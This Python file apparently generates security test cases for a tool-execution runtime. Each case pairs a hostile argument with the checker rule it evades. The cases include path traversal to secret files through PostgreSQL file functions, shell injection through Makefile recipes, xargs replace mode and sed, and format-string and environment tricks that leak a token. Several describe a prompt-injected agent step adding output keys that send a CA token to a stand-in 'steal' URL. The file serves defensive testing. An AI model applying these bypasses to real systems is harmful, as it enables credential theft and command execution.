# Round fifty-two attacks (helpers: round 51 lines 1-99 with r51 -> r52) (exec'd by gen_attacks.py; uses A, T, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r52-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r52-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r52-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")




# ================================================================== round 52 attacks
NEXUS = 'curl -fsS -u "ci:$NEXUS_TOKEN" --upload-file "$HARBOR_RUN_DIR/%s" "http://127.0.0.1:18766/repository/reports/%s"'
NEXUS_ENV = {"NEXUS_TOKEN": "s3cr3tT0ken99"}
R47 = ("Rounds 47/48: a pass_env name given to a program where its grammar takes a credential (curl -u) is held as a "
       "secret: it may not be printed. No line of this script prints it by name. ")
PGCONN = "psql -X -q -At -h 127.0.0.1 -p 15432 -U app -d app"
R51SQL = ("Round 51 / security.md section 7 rule 5: caller data inside a quoted SQL literal of psql -c is data when the "
          "arg's pattern keeps quotes, backslashes and newlines out (this one does); psql's SQL is read for its ways "
          "to run a text (COPY ... PROGRAM, EXECUTE, DO, $$ bodies, query_to_xml*, ts_stat, ts_rewrite, dblink*), "
          "none of which is here. ")

# the sibling export the server serves beside the psql ones: its {file:} secret exists on the server
T("deploy_status", """
name: deploy_status
description: "Status of the last deployment (the deploy API's answer)."
secrets:
  DEPLOY_TOKEN: {file: /run/secrets/deploy_token}
timeout: 30
steps:
  - name: status
    run: |
      curl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" "http://127.0.0.1:18766/api/deploy/status"
""")

# ---------------------------------------------------------------- class 1: a quoted SQL literal given to a
# server-side file function of PostgreSQL (the literal is data to SQL, a path to pg_read_file / COPY FROM)
PGPATH = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
          "description": "log file under the server's log folder, e.g. postgresql-2024-01-15.log"}
R("pg_server_log", "sql-literal-file-function", "Show a PostgreSQL server log file (pg_read_file, relative to the data folder's log/).",
  {"file": PGPATH},
  """
  # the log folder is the data directory's log/; the name is a quoted SQL literal
  """ + PGCONN + """ -c "select pg_read_file('log/$ARG_file')"
  """,
  {"file": "../../../../../../../../run/secrets/deploy_token"},
  R51SQL + "The literal is a path to pg_read_file, a server-side file function that psql's list does not name "
  "(sqlite3's readfile() is named, PostgreSQL's are not); as the bootstrap role it reads any file the server can, "
  "here the {file:} secret of the sibling export deploy_status, printed verbatim (this run has no secrets:, "
  "PGPASSWORD comes through pass_env).",
  head="pass_env: [PGPASSWORD]\n", server_env={"PGPASSWORD": "s3cr3tT0ken99"}, served_with=["deploy_status"])

IMPFILE = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
           "description": "CSV file the ops team dropped in /var/tmp on the database host, e.g. orders-2024-01.csv"}
R("pg_import_preview", "sql-literal-file-function", "Preview the first rows of an import file on the database host (COPY FROM a file into a temporary table).",
  {"file": IMPFILE},
  """
  """ + PGCONN + """ -c "create temp table preview(line text); copy preview from '/var/tmp/$ARG_file'; select line from preview limit 20"
  """,
  {"file": "../../run/secrets/deploy_token"},
  R51SQL + "COPY ... FROM 'file' (not PROGRAM) is no way to run a text, so it is not on the list: the literal "
  "names a file on the database host, and the sibling export's {file:} secret comes back as a row.",
  head="pass_env: [PGPASSWORD]\n", server_env={"PGPASSWORD": "s3cr3tT0ken99"}, served_with=["deploy_status"])

# ---------------------------------------------------------------- class 2: ".." alone (no "/") climbs from the
# author's folder in the run directory to the credential file round 51 makes the author's
PGPASS = """
umask 077
mkdir -p "$HARBOR_RUN_DIR/pg" "$HARBOR_RUN_DIR/out"
printf '127.0.0.1:15432:app:app:%s\\n' "$DB_PASSWORD" > "$HARBOR_RUN_DIR/pg/pgpass"
PGPASSFILE="$HARBOR_RUN_DIR/pg/pgpass" psql -X -q -At -F, -h 127.0.0.1 -p 15432 -U app -d app \\
  -c "select id, item, status from orders order by id" > "$HARBOR_RUN_DIR/out/orders.csv"
PGPASSFILE="$HARBOR_RUN_DIR/pg/pgpass" psql -X -q -At -F, -h 127.0.0.1 -p 15432 -U app -d app \\
  -c "select status, count(*) from orders group by status" > "$HARBOR_RUN_DIR/out/status.csv"
"""
REPORT = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,64}$",
          "description": "which report of the output folder to bundle: orders.csv, status.csv, or . for all"}
R2X = ("Round 51: a credential file the script wrote in full just before with printf of the author's text and the "
       "secret (PGPASSFILE=...) is the author's. Round 20 / security.md section 9: a caller path that climbs from a "
       "folder of the author's may name the file a secret was written to 'where the value may hold /, so ../c.cfg'; "
       "this pattern holds no '/'. ")
R("db_report_bundle", "dotdot-without-slash", "Export the order reports as a gzipped tar (base64) for download.",
  {"report": REPORT}, PGPASS + """
  tar -czf - -C "$HARBOR_RUN_DIR/out" -- "$ARG_report" | base64 -w0
  echo
  """,
  {"report": ".."},
  R2X + "But '..' alone is the run directory: tar archives pg/pgpass with the reports, gzip and base64 hide it from "
  "the scrubber.", head=DBSEC)
R("db_report_zip", "dotdot-without-slash", "Export the order reports as a zip (base64) for download.",
  {"report": REPORT}, PGPASS + """
  cd "$HARBOR_RUN_DIR/out"
  zip -q -r - -- "$ARG_report" | base64 -w0
  echo
  """,
  {"report": ".."},
  R2X + "zip -r of '..' from the output folder stores the whole run directory, pgpass included (deflated).",
  head=DBSEC)

# ---------------------------------------------------------------- class 3: a pass_env STEP_... name that an agent
# step's answer makes (extra top-level key beyond its outputs: properties)
AGENT_CA = """
name: issue_cert
description: "Ask the company's smallstep CA for a certificate; an agent picks the SANs."
args:
  host: {type: string, pattern: "^[a-z0-9.-]{1,100}$", description: "host name, e.g. web-1.example.com"}
required: [host]
pass_env: [STEP_CA_URL]
secrets:
  CA_TOKEN: {env: CI_CA_TOKEN}
tools:
  known_host:
    description: Whether a host name is in the server's hosts file.
    args:
      name: {type: string, pattern: "^[a-z0-9.-]{1,100}$"}
    required: [name]
    run: grep -F -e "$ARG_name" -- /etc/hosts || echo "not found"
timeout: 60
steps:
  - name: CA
    agent:
      model: ops
      system: You choose subject alternative names for certificate requests of our hosts.
      prompt: |
        Choose the SANs for a certificate of {{ args.host | data }}.
      tools: [known_host]
      max_turns: 4
      outputs:
        type: object
        properties:
          sans: {type: string, pattern: "^[a-z0-9.,-]{1,300}$"}
        required: [sans]
  - name: sign
    run: |
      # STEP_CA_URL is the server's (smallstep's variable, passed with pass_env); STEP_CA_sans is the agent's
      curl -fsS -H "Authorization: Bearer $CA_TOKEN" --data-urlencode "sans=$STEP_CA_sans" "$STEP_CA_URL/1.0/sign"
"""
A("issue_cert_agent_url", "pass-env-step-name-made-by-agent", AGENT_CA,
  {"host": "web-1.example.com"},
  "Round 51: a pass_env variable named STEP_... that no step makes (STEP_CA_URL) is the server's. The agent step CA "
  "declares only the output sans, but its answer's top-level keys all become outputs (agents.md: 'Its top-level keys "
  "become step outputs'; JSON Schema allows extra keys). A model steered by an injection adds URL: STEP_CA_URL is then "
  "a shell variable of the model's, which wins over the environment's, and curl sends the CA token there.",
  server_env={"STEP_CA_URL": "http://127.0.0.1:18766/ca"},
  agent_outputs={"CA": {"sans": "web-1.example.com", "URL": "http://127.0.0.1:18765/steal"}})

AGENT_FP = """
name: ca_bootstrap_note
description: "Write the CA bootstrap note for a host; an agent drafts the host's role line."
args:
  host: {type: string, pattern: "^[a-z0-9.-]{1,100}$", description: "host name, e.g. web-1.example.com"}
required: [host]
pass_env: [STEP_CA_FINGERPRINT]
tools:
  known_host:
    description: Whether a host name is in the server's hosts file.
    args:
      name: {type: string, pattern: "^[a-z0-9.-]{1,100}$"}
    required: [name]
    run: grep -F -e "$ARG_name" -- /etc/hosts || echo "not found"
timeout: 60
steps:
  - name: CA
    agent:
      model: ops
      system: You write one short line saying what a host is for.
      prompt: |
        Say what {{ args.host | data }} is for, in one line.
      tools: [known_host]
      max_turns: 4
      outputs:
        type: object
        properties:
          role: {type: string, maxLength: 120}
        required: [role]
  - name: note
    run: |
      # the root fingerprint is the server's (smallstep's STEP_CA_FINGERPRINT, pass_env): the author's text in sed
      sed "s/^fingerprint:.*/fingerprint: $STEP_CA_FINGERPRINT/" deploy/envs/staging.yaml
      printf 'role: %s\\n' "$STEP_CA_role"
"""
A("ca_note_agent_fingerprint", "pass-env-step-name-made-by-agent", AGENT_FP,
  {"host": "web-1.example.com"},
  "Round 51: a pass_env variable named STEP_... that no step makes (STEP_CA_FINGERPRINT) is the server's, so its "
  "value in a sed program is the author's text. The agent step CA declares only role; its answer's extra top-level key "
  "FINGERPRINT becomes STEP_CA_FINGERPRINT, a shell variable that wins over the environment, and sed's e runs it.",
  server_env={"STEP_CA_FINGERPRINT": "4a5b6c7d8e9f"},
  agent_outputs={"CA": {"role": "web front end", "FINGERPRINT": "x/;1e " + SHP + ";#"}})

# ---------------------------------------------------------------- class 4: Python spellings round 51 does not name
TPL = {"type": "string", "maxLength": 300, "description": "line template, e.g. '{d.date} {d.service}: {d.errors} errors'"}
R("report_lines_vformat", "python-format-by-another-name", "Render one line per day of the report with the caller's template, and upload them to Nexus.",
  {"template": TPL},
  """
  python3 - "$ARG_template" > "$HARBOR_RUN_DIR/lines.txt" <<'PY'
  import csv, string, sys
  from dataclasses import dataclass

  @dataclass
  class Day:
      date: str
      service: str
      requests: str
      errors: str

  fmt = string.Formatter()
  with open("data/report.csv", newline="") as f:
      for row in csv.DictReader(f):
          print(fmt.vformat(sys.argv[1], (), {"d": Day(**row)}))
  PY
  cat "$HARBOR_RUN_DIR/lines.txt"
  """ + NEXUS % ("lines.txt", "lines.txt") + "\n",
  {"template": "{d.__init__.__globals__[sys].modules[os].environ[NEXUS_TOKEN]}"},
  R47 + "Round 51 refuses format/format_map on a template that is not a literal; string.Formatter().vformat is "
  "neither name, and string, csv, dataclasses are modules that run nothing they read. The caller's template walks "
  "d.__init__.__globals__ to os.environ.", head="pass_env: [NEXUS_TOKEN]\n", server_env=NEXUS_ENV)

VAR = {"type": "string", "pattern": "^[A-Z][A-Z0-9_]{0,40}$", "description": "setting name, e.g. HTTPS_PROXY"}
R("server_setting_environb", "python-environ-by-another-name", "Show one of the server's passed settings (proxy, region) by name, then publish the proxy check to Nexus.",
  {"name": VAR},
  """
  python3 -c 'import os, sys; k = sys.argv[1]; print(k, "=", os.environb.get(k.encode(), b"(unset)").decode())' "$ARG_name" | tee "$HARBOR_RUN_DIR/setting.txt"
  """ + NEXUS % ("setting.txt", "setting.txt") + "\n",
  {"name": "NEXUS_TOKEN"},
  R47 + "Round 51 refuses os.environ/getenv read by a computed name or handed on whole; os.environb (the bytes "
  "mapping of the same environment) is neither name.", head="pass_env: [HTTPS_PROXY, NO_PROXY, NEXUS_TOKEN]\n",
  server_env=dict(NEXUS_ENV, HTTPS_PROXY="http://proxy.corp:3128", NO_PROXY="localhost"))

# ---------------------------------------------------------------- class 5: the environment taken whole, filtered by
# the caller's pattern (no computed-name lookup anywhere)
PREFIX = {"type": "string", "pattern": "^[A-Z][A-Z0-9_]{0,40}$", "description": "variable name prefix, e.g. HTTPS_ or NO_"}
R("proxy_settings_jq", "environment-whole-filtered-by-caller", "Show the proxy settings the server passes (names starting with a prefix), then check Nexus through them.",
  {"prefix": PREFIX},
  """
  jq -n --arg p "$ARG_prefix" 'env | with_entries(select(.key | startswith($p)))' | tee "$HARBOR_RUN_DIR/env.json"
  """ + NEXUS % ("env.json", "proxy-env.json") + "\n",
  {"prefix": "NEXUS"},
  R47 + "Round 50 refuses jq's $ENV/env with a computed name; here env is taken whole and filtered with "
  "with_entries/select on the key, a name of the caller's nowhere looked up.", head="pass_env: [HTTPS_PROXY, NO_PROXY, NEXUS_TOKEN]\n",
  server_env=dict(NEXUS_ENV, HTTPS_PROXY="http://proxy.corp:3128", NO_PROXY="localhost"))

RE = {"type": "string", "pattern": "^[A-Za-z0-9_^$|]{1,60}$", "description": "regex on variable names, e.g. ^(HTTPS|NO)_PROXY$"}
R("proxy_settings_perl", "environment-whole-filtered-by-caller", "Show the server's passed settings whose names match a regex, then check Nexus through the proxy.",
  {"match": RE},
  """
  perl -e 'my $re = shift; my %e = %ENV; for my $k (sort grep { /$re/ } keys %e) { print "$k=$e{$k}\\n" }' -- "$ARG_match" | tee "$HARBOR_RUN_DIR/env.txt"
  """ + NEXUS % ("env.txt", "proxy-env.txt") + "\n",
  {"match": "^NEXUS"},
  R47 + "Round 51 perl: the list (eval, system, backticks, 2-argument open, <>, readline(ARGV)) and r51's $ENV{$1}; "
  "here %ENV is copied whole into %e and read by the keys a caller's regex keeps.", head="pass_env: [HTTPS_PROXY, NO_PROXY, NEXUS_TOKEN]\n",
  server_env=dict(NEXUS_ENV, HTTPS_PROXY="http://proxy.corp:3128", NO_PROXY="localhost"))

R("proxy_settings_grep", "environment-whole-filtered-by-caller", "Show one passed setting as the step's processes see it, then check Nexus.",
  {"name": VAR},
  """
  grep -a -z -e "^$ARG_name=" -- /proc/self/environ | tr '\\0' '\\n' | tee "$HARBOR_RUN_DIR/env.txt"
  """ + NEXUS % ("env.txt", "proxy-env.txt") + "\n",
  {"name": "NEXUS_TOKEN"},
  R47 + "/proc is a file no step writes (round 15's /proc/loadavg); grep's -e pattern is data. Caller data is not "
  "in the environment, but the pass_env credential is, and grep prints its own environment's matching entry.",
  head="pass_env: [HTTPS_PROXY, NO_PROXY, NEXUS_TOKEN]\n",
  server_env=dict(NEXUS_ENV, HTTPS_PROXY="http://proxy.corp:3128", NO_PROXY="localhost"))

MSG = dict(ATT_TXT, description="the announcement text; ${VAR} names the server's settings (${HTTPS_PROXY})")
R("announce_envsubst", "environment-whole-filtered-by-caller", "Fill the server's settings into an announcement and publish it on Nexus.",
  {"message": MSG},
  """
  envsubst < "$ARG_message" > "$HARBOR_RUN_DIR/announce.txt"
  cat "$HARBOR_RUN_DIR/announce.txt"
  """ + NEXUS % ("announce.txt", "announce.txt") + "\n",
  {"message": b64("Proxy for the release: ${HTTPS_PROXY}\ncheck: ${NEXUS_TOKEN}\n")},
  R47 + "envsubst reads an attachment (the caller's file, data on stdin) and the environment; no name is computed "
  "in the script: the template's ${NAME}s choose which of the environment's values it prints.",
  head="pass_env: [HTTPS_PROXY, NO_PROXY, NEXUS_TOKEN]\n",
  server_env=dict(NEXUS_ENV, HTTPS_PROXY="http://proxy.corp:3128", NO_PROXY="localhost"))

# ---------------------------------------------------------------- class 6: OAuth claims expanded by the author's
# Makefile recipe (make reads its environment as make variables; the runtime exports the claims)
MAKEFILE = ("TARGET ?= app\n\n.PHONY: report lint\nreport:\n"
            "\t@echo \"report for $(TARGET), requested by $(HARBOR_CALLER_PRINCIPAL)\"\n"
            "\t@date -u +%Y-%m-%d\n\nlint:\n\t@echo \"lint ok\"\n")
R("make_report_claim", "claims-in-makefile-recipe", "Build the team report with the repository's Makefile.",
  {},
  """
  make -s report
  """,
  {},
  "Security.md section 7: what the author's code that a program runs there prints (a Makefile recipe) is the "
  "author's; make here gets only literal words in a working folder no step writes. Round 45/46: the claims are "
  "read as a caller's text where the script expands them (sed, awk, a URL, a file name), 'the runtime still exports "
  "them'. make reads every environment variable as a make variable, and the author's recipe stamps "
  "$(HARBOR_CALLER_PRINCIPAL): the identity provider's claim text becomes shell code of the recipe.",
  caller={"HARBOR_CALLER_PRINCIPAL": 'oauth:x"; ' + "echo HARBOR-PWNED-$$((6*7)) | tee -a /tmp/harbor-r52-pwned; #"},
  author_files={"Makefile": MAKEFILE})

MAKEFILE2 = ("TARGET ?= app\n\n.PHONY: audit\naudit:\n"
             "\t@printf '%s\\n' \"audit of $(TARGET) for tenant $(HARBOR_CALLER_TENANT)\"\n")
R("make_audit_tenant", "claims-in-makefile-recipe", "Run the repository's audit target for the caller's tenant.",
  {},
  """
  make -s audit
  """,
  {},
  "As make_report_claim, with the tenant claim (--tenant-claim) in a printf of the author's recipe.",
  caller={"HARBOR_CALLER_TENANT": "t\"; echo HARBOR-PWNED-$$((6*7)) | tee -a /tmp/harbor-r52-pwned; #"},
  author_files={"Makefile": MAKEFILE2})

# ---------------------------------------------------------------- class 7: xargs' replace mode by its other names
MANIFEST = dict(ATT_TXT, description="manifest: one file path per line")
R("manifest_counts_xargs_i", "xargs-replace-other-spelling", "Count the lines of each file the caller's manifest lists.",
  {"manifest": MANIFEST},
  """
  xargs -d '\\n' -i sh -c 'printf "%s: " "{}"; wc -l < "{}"' < "$ARG_manifest"
  """,
  {"manifest": b64('logs/app.log\nx"; ' + SHP + '; echo "\n')},
  "Rule 7: 'the items xargs reads from such input … are arguments of the caller's at the end of its command'; the "
  "sh -c script is a literal. xargs -i (GNU's older spelling of -I{}) replaces {} inside the script text instead.")
R("manifest_counts_xargs_replace", "xargs-replace-other-spelling", "Show the size of each file the caller's manifest lists.",
  {"manifest": MANIFEST},
  """
  xargs -d '\\n' --replace=FILE sh -c 'printf "%s\\t" "FILE"; stat -c %s -- "FILE"' < "$ARG_manifest"
  """,
  {"manifest": b64('README.md\nx"; ' + SHP + '; echo "\n')},
  "As manifest_counts_xargs_i, with the long option --replace=FILE (no {} anywhere): each line replaces FILE in "
  "the literal sh -c script.")
